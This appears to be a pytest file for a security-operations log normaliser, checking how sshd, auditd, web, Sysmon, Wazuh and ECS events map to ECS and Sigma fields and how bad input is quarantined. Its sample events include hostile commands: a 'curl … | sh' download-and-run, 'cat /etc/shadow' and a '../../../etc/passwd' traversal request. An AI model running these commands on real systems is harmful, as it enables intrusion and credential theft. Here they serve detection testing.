"""Each normaliser's ECS and Sigma mapping, kind detection, and quarantine reasons."""

from __future__ import annotations

import json
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest

from cityops.services.soc.ingest import (
    MAX_EVENT_BYTES,
    IngestedEvent,
    Quarantined,
    normalise,
)

DATA = Path(__file__).parent / "data" / "ingest"
NOW = datetime(2026, 11, 29, 3, 0, tzinfo=UTC)


def ok(raw: Any, kind: str = "auto") -> IngestedEvent:
    result = normalise(raw, source="test", kind=kind, received_at=NOW)
    assert isinstance(result, IngestedEvent), getattr(result, "reason", result)
    assert result.received_at == NOW and result.source == "test"
    return result


def refused(raw: Any, kind: str = "auto") -> Quarantined:
    result = normalise(raw, source="test", kind=kind, received_at=NOW)
    assert isinstance(result, Quarantined), result
    assert result.reason[:1].isupper()
    return result


def lines(name: str) -> list[str]:
    return (DATA / name).read_text(encoding="utf-8").splitlines()


def test_sshd_failed_password_from_auth_log() -> None:
    ev = ok(lines("auth.log")[0])
    assert ev.raw == lines("auth.log")[0]
    f = ev.fields
    assert f["@timestamp"] == "2026-11-28T16:58:01.000000Z"  # 23:58 in Vietnam
    assert (f["host.name"], f["process.name"], f["process.pid"]) == ("web-dlk01", "sshd", 4101)
    assert (f["user.name"], f["source.ip"], f["source.port"]) == ("root", "203.0.113.45", 50122)
    assert (f["event.outcome"], f["event.category"]) == ("failure", ["authentication"])
    assert ev.sigma["User"] == "root" and ev.sigma["SourceIp"] == "203.0.113.45"
    assert ("linux", None, "sshd") in ev.logsource and ("linux", None, "auth") in ev.logsource


def test_each_linux_syslog_program_is_mapped() -> None:
    evs = [ok(line).fields for line in lines("auth.log")]
    assert evs[1]["user.name"] == "admin1"  # the double space before the name
    assert (evs[2]["user.name"], evs[2]["source.ip"], evs[2]["source.port"]) == (
        "oracle", "198.51.100.23", 41822)
    assert (evs[3]["event.outcome"], evs[3]["user.name"], evs[3]["source.ip"]) == (
        "success", "deploy", "192.0.2.10")
    assert (evs[4]["user.name"], evs[4]["process.command_line"]) == (
        "root", "/usr/local/bin/backup.sh --daily")
    sudo = evs[5]
    assert (sudo["user.name"], sudo["user.effective.name"]) == ("deploy", "root")
    assert sudo["process.executable"] == "/usr/bin/systemctl"
    assert sudo["process.name"] == "systemctl"
    assert sudo["process.command_line"] == "/usr/bin/systemctl restart nginx"
    assert (evs[6]["user.name"], evs[6]["user.effective.name"], evs[6]["event.outcome"]) == (
        "deploy", "root", "failure")
    pam = evs[7]
    assert (pam["source.ip"], pam["user.name"], pam["event.outcome"]) == (
        "203.0.113.45", "root", "failure")


def test_auditd_records_hex_arguments_and_nested_pam_message() -> None:
    syscall, execve, hexed, login, proctitle = (ok(line) for line in lines("audit.log"))
    assert syscall.fields["process.executable"] == "/usr/bin/whoami"
    assert (syscall.fields["process.pid"], syscall.fields["process.parent.pid"]) == (2002, 2001)
    assert syscall.fields["event.outcome"] == "success" and syscall.fields["tags"] == ["recon"]
    assert syscall.fields["event.category"] == ["process"]  # syscall 59 on x86_64 is execve
    assert syscall.fields["@timestamp"] == "2026-11-29T00:00:00.120000Z"
    assert execve.sigma["type"] == "EXECVE" and execve.sigma["a0"] == "whoami"
    assert hexed.sigma["a2"] == "curl http://203.0.113.9/x.sh | sh"
    assert hexed.fields["process.command_line"] == "bash -c curl http://203.0.113.9/x.sh | sh"
    assert hexed.fields["process.args"] == ["bash", "-c", "curl http://203.0.113.9/x.sh | sh"]
    assert (login.fields["user.name"], login.fields["source.ip"]) == ("admin", "203.0.113.45")
    assert login.fields["event.outcome"] == "failure"
    assert login.fields["event.category"] == ["authentication"]
    assert proctitle.fields["process.command_line"] == "cat /etc/shadow"
    assert ("linux", None, "auditd") in execve.logsource


def test_auditd_as_json_key_values() -> None:
    ev = ok({"type": "EXECVE", "msg": "audit(1795910400.000:5)", "argc": "2", "a0": "id",
             "a1": "-a"})
    assert ev.fields["process.command_line"] == "id -a" and ev.sigma["a0"] == "id"
    assert "seconds:serial" in refused({"type": "EXECVE", "msg": "audit(bad)"}, "auditd").reason
    assert "type" in refused({"a0": "x"}, "auditd").reason


def test_web_access_log_to_sigma_webserver_fields() -> None:
    ok_line, traversal, login, junk = (ok(line) for line in lines("access.log"))
    s = traversal.sigma
    assert (s["c-ip"], s["cs-method"], s["sc-status"]) == ("203.0.113.9", "GET", 404)
    assert s["c-uri"] == "/download.php?file=../../../etc/passwd"
    assert (s["cs-uri-stem"], s["cs-uri-query"]) == ("/download.php", "file=../../../etc/passwd")
    assert s["c-useragent"] == "curl/8.5.0" and "cs-referer" not in s
    assert s["cs-version"] == "HTTP/1.1"
    assert traversal.fields["@timestamp"] == "2026-11-29T02:15:07.000000Z"
    assert traversal.logsource == [(None, None, None), (None, "webserver", None)]
    assert ok_line.sigma["cs-referer"] == "https://daklak.example/"
    assert ok_line.fields["event.outcome"] == "success"
    assert (login.sigma["cs-username"], login.fields["user.name"]) == ("alice", "alice")
    assert "cs-method" not in junk.sigma and junk.fields["http.response.status_code"] == 400
    bad_time = refused('1.2.3.4 - - [99/Nov/2026:09:15:07 +0700] "GET / HTTP/1.1" 200 1', "web")
    assert "time" in bad_time.reason
    assert "access-log" in refused("not an access log", "web").reason


def test_syslog_carrying_an_access_log_or_audit_record() -> None:
    web = ok('<190>Nov 29 10:00:00 web-dlk01 nginx: 203.0.113.9 - - [29/Nov/2026:10:00:00 '
             '+0700] "GET /a?b=1 HTTP/1.1" 200 5 "-" "x"')
    assert web.sigma["cs-uri-query"] == "b=1" and web.fields["host.name"] == "web-dlk01"
    assert (None, "webserver", None) in web.logsource
    audit = ok("<13>Nov 29 10:00:00 h audispd: type=EXECVE msg=audit(1795910400.0:1): "
               'argc=1 a0="id"')
    assert audit.sigma["a0"] == "id" and ("linux", None, "auditd") in audit.logsource


def _sysmon(**data: Any) -> dict[str, Any]:
    return {"Event": {
        "System": {"EventID": 1, "Channel": "Microsoft-Windows-Sysmon/Operational",
                   "Computer": "PC-01.daklak.local",
                   "TimeCreated": {"#attributes": {"SystemTime": "2026-11-29T02:00:00.5Z"}}},
        "EventData": data}}


def test_windows_sysmon_process_creation_to_ecs() -> None:
    ev = ok(_sysmon(Image="C:\\Windows\\System32\\cmd.exe", CommandLine="cmd /c whoami",
                    ProcessId=4242, ParentImage="C:\\Windows\\explorer.exe",
                    User="DAKLAK\\an.nguyen", Hashes="MD5=00,SHA256=" + "AB" * 32))
    f = ev.fields
    assert f["@timestamp"] == "2026-11-29T02:00:00.500000Z"
    assert (f["event.code"], f["host.name"], f["event.category"]) == (
        "1", "PC-01.daklak.local", ["process"])
    assert (f["process.executable"], f["process.name"], f["process.pid"]) == (
        "C:\\Windows\\System32\\cmd.exe", "cmd.exe", 4242)
    assert (f["process.parent.name"], f["user.name"], f["user.domain"]) == (
        "explorer.exe", "an.nguyen", "DAKLAK")
    assert f["file.hash.sha256"] == "ab" * 32
    assert ev.sigma["Image"].endswith("cmd.exe") and ev.sigma["EventID"] == 1
    assert ("windows", "process_creation", None) in ev.logsource


def test_windows_security_logon_failure_and_hex_pid() -> None:
    ev = ok({"Event": {"System": {"EventID": 4625, "Channel": "Security"}, "EventData": {
        "TargetUserName": "administrator", "IpAddress": "203.0.113.45", "IpPort": "50000",
        "ProcessId": "0x378"}}}, "windows")
    f = ev.fields
    assert (f["user.name"], f["source.ip"], f["event.outcome"]) == (
        "administrator", "203.0.113.45", "failure")
    assert f["process.pid"] == 0x378 and f["@timestamp"] == "2026-11-29T03:00:00.000000Z"


def test_flat_windows_export_is_detected_and_mapped() -> None:
    ev = ok({"EventID": 4625, "Channel": "Security", "TargetUserName": "bob",
             "IpAddress": "192.0.2.1"})
    assert (ev.fields["event.code"], ev.fields["user.name"], ev.fields["source.ip"]) == (
        "4625", "bob", "192.0.2.1")
    assert ("windows", None, "security") in ev.logsource


def test_windows_regression_events_all_normalise() -> None:
    regression = Path(__file__).parent / "data" / "regression"
    count = 0
    for path in sorted(regression.rglob("*.jsonl"))[:40]:
        if path.name == "cases.jsonl":
            continue
        for line in path.read_text(encoding="utf-8").splitlines():
            ev = ok(line, "windows")
            assert ev.fields["event.code"] == str(ev.sigma["EventID"])
            count += 1
    assert count > 20


def test_windows_shape_problems_are_quarantined() -> None:
    assert "System" in refused({"Event": {"EventData": {}}}, "windows").reason
    assert "EventID" in refused({"Event": {"System": {"Channel": "Security"}}}, "windows").reason


def test_wazuh_alerts_sshd_windows_and_web() -> None:
    sshd, win, web = (ok(line) for line in lines("wazuh-alerts.json"))
    f = sshd.fields
    assert (f["host.name"], f["host.ip"], f["rule.id"], f["rule.level"]) == (
        "web-dlk01", "10.20.1.15", "5716", 5)
    assert f["threat.technique.id"] == ["T1110.001"] and f["rule.name"].startswith("sshd")
    assert (f["user.name"], f["source.ip"], f["source.port"]) == ("root", "203.0.113.45", 50412)
    assert f["@timestamp"] == "2026-11-29T02:20:01.512000Z"
    assert ("linux", None, "sshd") in sshd.logsource
    w = win.sigma
    assert w["Image"] == "C:\\Windows\\System32\\certutil.exe"  # Wazuh's double escaping undone
    assert w["EventID"] == 1 and w["ParentImage"].endswith("\\cmd.exe")
    assert ("windows", "process_creation", None) in win.logsource
    assert win.fields["host.name"] == "PC-KETOAN-02" and win.fields["process.pid"] == 6612
    assert win.fields["file.hash.sha256"].startswith("0f2c3a4b")
    assert win.fields["user.name"] == "ketoan2"
    assert web.sigma["cs-uri-query"] == "file=../../../etc/passwd"
    assert (None, "webserver", None) in web.logsource
    assert "rule" in refused({"rule": {"id": "1"}, "full_log": "x"}, "wazuh").reason


def test_ecs_nested_and_dotted_pass_through_with_sigma_names() -> None:
    nested, dotted = (ok(line) for line in lines("ecs.jsonl"))
    assert nested.fields["process.executable"] == "/usr/bin/base64"
    assert nested.fields["process.name"] == "base64"
    assert nested.sigma["Image"] == "/usr/bin/base64"
    assert nested.sigma["CommandLine"] == "base64 -d /tmp/payload.b64"
    assert nested.sigma["ParentImage"] == "/bin/bash" and nested.sigma["User"] == "www-data"
    assert ("linux", "process_creation", None) in nested.logsource
    assert dotted.sigma["cs-uri-query"] == "file=../../../etc/passwd"
    assert dotted.sigma["c-ip"] == "203.0.113.9"
    assert (None, "webserver", None) in dotted.logsource
    assert "@timestamp" in refused({"host": {"name": "x"}}, "ecs").reason
    assert "ISO 8601" in refused({"@timestamp": "yesterday"}, "ecs").reason


@pytest.mark.parametrize(("raw", "kind", "reason"), [
    (b"\xff\xfeabc", "auto", "Invalid UTF-8 at byte 0"),
    ("{not json", "auto", "Invalid JSON"),
    ("[1, 2]", "auto", "must be an object, not list"),
    ("   ", "auto", "Empty event"),
    ("hello there", "auto", "No syslog header"),
    ({"foo": 1}, "auto", "Unrecognised event shape"),
    ({"x": float("nan")}, "auto", "cannot be written as JSON"),
    ("type=EXECVE no header", "auditd", "Audit record has no"),
    ("x", "nope", "Unknown event kind"),
    ("plain text", "windows", "must be a JSON object"),
    ({"message": 5}, "syslog", "'message' string"),
    (12345, "auto", "must be text, bytes or a JSON object"),
    ("[" * 100_000, "auto", "could not be normalised (RecursionError)"),
    ('{"a":' * 40_000 + "1" + "}" * 40_000, "ecs", "could not be normalised"),
])
def test_malformed_input_is_quarantined_with_reason(raw: Any, kind: str, reason: str) -> None:
    q = refused(raw, kind)
    assert reason in q.reason
    assert q.source == "test" and q.received_at == NOW


def test_quarantine_keeps_the_raw_text() -> None:
    assert refused("{not json").raw == "{not json"
    assert refused(b"\xff\xfeabc").raw.endswith("abc")


def test_huge_events_are_refused_before_parsing() -> None:
    big = json.dumps({"@timestamp": "2026-11-29T00:00:00Z", "message": "A" * MAX_EVENT_BYTES})
    for raw in (big, big.encode(), json.loads(big)):
        q = refused(raw)
        assert "over the 262144-byte limit" in q.reason and len(q.raw) <= MAX_EVENT_BYTES


def test_received_at_defaults_to_now_in_utc() -> None:
    before = datetime.now(UTC)
    ev = normalise(lines("auth.log")[0], source="s")
    assert isinstance(ev, IngestedEvent)
    assert ev.received_at.tzinfo is not None and ev.received_at >= before
    naive = normalise("{bad", source="s", received_at=datetime(2026, 1, 1))
    assert naive.received_at == datetime(2026, 1, 1, tzinfo=UTC)
